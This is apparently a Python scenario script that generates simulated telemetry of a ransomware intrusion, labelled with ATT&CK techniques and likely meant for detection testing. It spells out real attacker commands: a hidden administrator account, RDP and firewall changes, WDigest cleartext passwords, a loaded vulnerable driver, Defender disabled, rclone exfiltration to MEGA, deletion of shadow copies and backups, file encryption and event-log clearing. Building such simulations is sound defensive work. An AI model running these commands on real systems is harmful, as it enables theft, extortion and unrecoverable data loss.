"""An operator is logged on by remote desktop with an administrator's password: accounts, firewall, a vulnerable driver,
Defender off, backups gone, files encrypted over shares. Resembles Akira, Black Basta and LockBit intrusions of 2023-2025."""
import deeds
from scenery import Desktop

SETTING = {"start": "2025-08-03T02:14:26", "user": "FS01\\Administrator", "home": "C:\\Users\\Administrator",
           "computer": "FS01",
           "os_version": (10, 0, 17763)}
HIGH = {"integrity": "High"}
TOOLS = r"C:\Users\Public\Music"
USERLIST = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList"
POLICY = r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender"
SERVER = r"HKLM\System\CurrentControlSet\Control\Terminal Server"
SHARES = (r"D:\Shares\Accounts", r"D:\Shares\Projects", r"\\10.0.2.22\data", r"D:\Veeam")
KINDS = ("xlsx", "docx", "pdf", "dwg", "bak", "vbk", "sql", "pst")


def at_prompt(c, shell, line, **more):
    return deeds.command(c, shell, line, shell=False, **more)


def encrypt(c, locker):
    for share in SHARES:
        deeds.list_folder(c, locker, share)
        for number, kind in enumerate(KINDS):
            path = share + r"\item_%02d.%s" % (number + 10, kind)
            c.open(locker, path, 0x12019F)
            c.write_at(locker, path, 0, 65536)
            c.write_at(locker, path, 131072, 65536)
            c.rename(locker, path, path + ".akiro")


def story(c):
    desktop = Desktop(c)
    desktop.murmur(5)
    shell = deeds.tool(c, desktop.explorer, '"C:\\Windows\\system32\\cmd.exe"', **HIGH)
    with deeds.told(c, "scans the network with a tool that was brought along", "medium", ("T1046", "T1018", "T1135"),
                    shell, "netscan.exe") as helpers:
        scanner = c.spawn(shell, TOOLS + r"\netscan.exe", "netscan.exe /hide /auto:result.xml /range:10.0.2.1-10.0.2.60",
                          company="SoftPerfect", description="Network Scanner")
        helpers.append(scanner)
        for last in range(10, 50):
            c.net(scanner, "Connect" if last % 6 == 0 else "Reconnect", ("10.0.2.%d" % last, 445), 53000 + last)
        c.drop(scanner, TOOLS + r"\result.xml", 42_000)
        c.exit(scanner)
    with deeds.told(c, "makes an account and an administrator of it", "high", ("T1136.001", "T1098.007", "T1098"), shell,
                    ("backup_svc", "net user", "localgroup")) as helpers:
        helpers += at_prompt(c, shell, "net user backup_svc Wint3r!2025x /add")
        helpers += at_prompt(c, shell, "net localgroup Administrators backup_svc /add")
    with deeds.told(c, "hides the account from the log-on screen", "high", ("T1564.002", "T1112"), shell,
                    ("UserList", "backup_svc")) as helpers:
        helpers += at_prompt(c, shell, r'reg add "%s" /v backup_svc /t REG_DWORD /d 0 /f' % USERLIST)
        c.set_value(helpers[-1], USERLIST + r"\backup_svc", "REG_DWORD", 0)
    with deeds.told(c, "lets remote desktop in", "medium", ("T1021.001", "T1112", "T1685"), shell,
                    "fDenyTSConnections") as helpers:
        helpers += at_prompt(c, shell, r'reg add "%s" /v fDenyTSConnections /t REG_DWORD /d 0 /f' % SERVER)
        c.set_value(helpers[-1], SERVER + r"\fDenyTSConnections", "REG_DWORD", 0)
    with deeds.told(c, "opens the firewall for remote desktop", "medium", ("T1686.003", "T1686"), shell,
                    ("3389", "allow RemoteDesktop", "netsh")) as helpers:
        helpers += at_prompt(c, shell, 'netsh advfirewall firewall add rule name="allow RemoteDesktop" dir=in '
                                       'protocol=TCP localport=3389 '
                             'action=allow')
    with deeds.told(c, "has passwords be kept in the clear from now on", "high", ("T1112", "T1003.001", "T1556"), shell,
                    "UseLogonCredential") as helpers:
        key = r"HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest"
        helpers += at_prompt(c, shell, "reg add %s /v UseLogonCredential /t REG_DWORD /d 1 /f" % key)
        c.set_value(helpers[-1], key + r"\UseLogonCredential", "REG_DWORD", 1)
    killer = c.spawn(shell, TOOLS + r"\av.exe", "av.exe -k")
    deeds.begin(c, killer)
    with c.behaviour("brings a driver that can be abused, and has it loaded", "high",
                     ("T1068", "T1543.003", "T1685", "T1014"), killer,
                     ("rwdrv.sys", "mgdsrv")):
        c.drop(killer, c.home + r"\AppData\Local\Temp\rwdrv.sys", 31_000)
        deeds.service(c, desktop, "mgdsrv", r"\??\%s\AppData\Local\Temp\rwdrv.sys" % c.home, kind=1, start=3)
        system = c.system("System", "", parent=None)
        c.load(system, c.home + r"\AppData\Local\Temp\rwdrv.sys", 0xFFFFF80400000000)
    with c.behaviour("switches Defender off by policy", "high", "T1685", killer,
                     ("DisableAntiSpyware", "DisableRealtimeMonitoring")):
        c.key(killer, POLICY + r"\Real-Time Protection", new=True)
        c.set_value(killer, POLICY + r"\DisableAntiSpyware", "REG_DWORD", 1)
        c.set_value(killer, POLICY + r"\Real-Time Protection\DisableRealtimeMonitoring", "REG_DWORD", 1)
    c.exit(killer)
    desktop.murmur(2)
    with deeds.told(c, "stops services of backup and databases", "high", "T1489", shell,
                    ("VeeamBackupSvc", "MSSQLSERVER")) as helpers:
        for name in ("VeeamBackupSvc", "VeeamDeploySvc", "MSSQLSERVER", "SQLWriter"):
            helpers += at_prompt(c, shell, "net stop %s /y" % name)
            helpers += at_prompt(c, shell, "sc config %s start= disabled" % name)
            c.set_value(desktop.services, deeds.SERVICES + "\\" + name + r"\Start", "REG_DWORD", 4)
    with deeds.told(c, "sends the shares' files away", "high", ("T1567.002", "T1048", "T1567", "T1048.002"), shell,
                    ("rclone", "mega")) as helpers:
        c.host("203.0.113.150", "g.api.mega.co.nz")
        copier = c.spawn(shell, TOOLS + r"\rclone.exe",
                         r"rclone.exe copy D:\Shares mega:fs01 --max-age 3y --transfers 12 -q",
                         company="https://rclone.org", description="Rclone")
        helpers.append(copier)
        c.read(copier, TOOLS + r"\rclone.conf", 300)
        for share in SHARES[:2]:
            for number, kind in enumerate(KINDS):
                c.read(copier, share + r"\item_%02d.%s" % (number + 10, kind), 131072)
        for number in range(3):
            c.exchange(copier, ("203.0.113.150", 443), 54000 + number, [14_600] * 12, [300])
        c.exit(copier)
    with deeds.told(c, "deletes the shadow copies by PowerShell", "critical", "T1490", shell, "Win32_Shadowcopy") as helpers:
        helpers += at_prompt(c, shell, 'powershell.exe -Command "Get-WmiObject Win32_Shadowcopy | Remove-WmiObject"')
    with deeds.told(c, "deletes the backups' catalogue and the system's backups", "critical", "T1490", shell,
                    "wbadmin") as helpers:
        helpers += at_prompt(c, shell, "wbadmin delete catalog -quiet")
        helpers += at_prompt(c, shell, "wbadmin delete systemstatebackup -keepVersions:0")
    with deeds.told(c, "keeps Windows from repairing itself", "high", "T1490", shell,
                    ("recoveryenabled", "bcdedit")) as helpers:
        helpers += at_prompt(c, shell, "bcdedit /set {default} recoveryenabled no")
        helpers += at_prompt(c, shell, "bcdedit /set {default} bootstatuspolicy ignoreallfailures")
    locker = c.spawn(shell, TOOLS + r"\w.exe", r"w.exe -p=D:\ -s=shares.txt -n=15 -remote")
    deeds.begin(c, locker)
    c.read(locker, TOOLS + r"\shares.txt", 300)
    with c.behaviour("encrypts files and gives them a new ending", "critical", "T1486", locker, (".akiro", "item_")):
        encrypt(c, locker)
    with c.behaviour("leaves its demands in every folder", "high", ("T1486", "T1491.001", "T1657"), locker,
                     "akiro_readme.txt"):
        for share in SHARES:
            c.drop(locker, share + r"\akiro_readme.txt", 2700)
    with c.behaviour("encrypts files on another computer's share", "critical", ("T1486", "T1021.002"), locker, "10.0.2.22"):
        for number in range(8):
            path = r"\\10.0.2.22\backup$\vm%02d.vhdx" % number
            c.open(locker, path, 0x12019F)
            c.write_at(locker, path, 0, 1_048_576)
            c.rename(locker, path, path + ".akiro")
    c.exit(locker)
    with deeds.told(c, "clears the event logs", "high", ("T1685.005", "T1070"), shell, ("wevtutil", "Security")) as helpers:
        for name in ("Security", "System", "Application"):
            helpers += at_prompt(c, shell, "wevtutil cl " + name)
    desktop.murmur(3)
